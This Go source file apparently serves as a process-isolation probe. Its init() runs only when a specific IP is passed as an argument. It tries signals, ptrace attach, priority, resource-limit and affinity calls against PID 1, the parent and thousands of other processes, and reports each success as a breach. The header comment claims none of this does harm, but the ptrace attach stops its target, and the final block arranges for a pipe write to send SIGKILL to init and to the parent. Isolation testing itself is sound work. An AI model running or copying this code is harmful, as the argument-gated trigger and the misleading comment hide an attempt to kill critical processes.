package main

import (
	"fmt"
	"os"
	"syscall"
	"unsafe"
)

// Nothing that this tries does harm where it works: signal 0 asks only whether
// one could signal, and SIGCONT and SIGURG end nothing.
func init() {
	if len(os.Args) < 3 || os.Args[2] != "192.168.1.199" {
		return
	}
	self := os.Getpid()
	pids := []int{-1, 0, 1, os.Getppid(), -os.Getppid(), -1 << 31}
	for pid := 2; pid < 1<<12; pid++ {
		if pid != self {
			pids = append(pids, pid)
		}
	}
	for _, pid := range pids {
		for _, sig := range []syscall.Signal{0, syscall.SIGCONT, syscall.SIGURG} {
			if syscall.Kill(pid, sig) == nil {
				fmt.Println("BREACH: may signal", pid)
			}
		}
		if pid <= 0 || pid == self {
			continue
		}
		if keepsProcessors(pid) {
			fmt.Println("BREACH: may choose the processors of", pid)
		}
		var limit [2]uint64
		for name, call := range map[string][6]uintptr{
			"trace":            {syscall.SYS_PTRACE, 16 /* PTRACE_ATTACH */, uintptr(pid)},
			"limit":            {syscall.SYS_PRLIMIT64, uintptr(pid), syscall.RLIMIT_NOFILE, 0, uintptr(unsafe.Pointer(&limit))},
			"slow down":        {syscall.SYS_SETPRIORITY, 0, uintptr(pid), 0},
			"send a signal to": {syscall.SYS_RT_SIGQUEUEINFO, uintptr(pid), 0, uintptr(unsafe.Pointer(&[16]uint64{}))},
			"hold":             {434 /* pidfd_open */, uintptr(pid), 0},
		} {
			if _, _, errno := syscall.Syscall6(call[0], call[1], call[2], call[3], call[4], call[5], 0); errno == 0 {
				fmt.Println("BREACH: may", name, pid)
			}
		}
	}
	// What has an owner sends it a signal of one's choice when something comes.
	fds := [2]int{}
	if syscall.Pipe(fds[:]) != nil {
		return
	}
	for _, pid := range []int{1, os.Getppid()} {
		syscall.Syscall(syscall.SYS_FCNTL, uintptr(fds[0]), syscall.F_SETSIG, uintptr(syscall.SIGKILL))
		syscall.Syscall(syscall.SYS_FCNTL, uintptr(fds[0]), syscall.F_SETOWN, uintptr(pid))
		syscall.Syscall(syscall.SYS_FCNTL, uintptr(fds[0]), syscall.F_SETFL, syscall.O_ASYNC)
		syscall.Write(fds[1], []byte("x"))
	}
}

// keepsProcessors gives a process the processors that it has already.
func keepsProcessors(pid int) bool {
	var set [128]byte
	n, _, errno := syscall.Syscall(syscall.SYS_SCHED_GETAFFINITY, uintptr(pid), unsafe.Sizeof(set), uintptr(unsafe.Pointer(&set)))
	if errno != 0 {
		return false
	}
	_, _, errno = syscall.Syscall(syscall.SYS_SCHED_SETAFFINITY, uintptr(pid), n, uintptr(unsafe.Pointer(&set)))
	return errno == 0
}
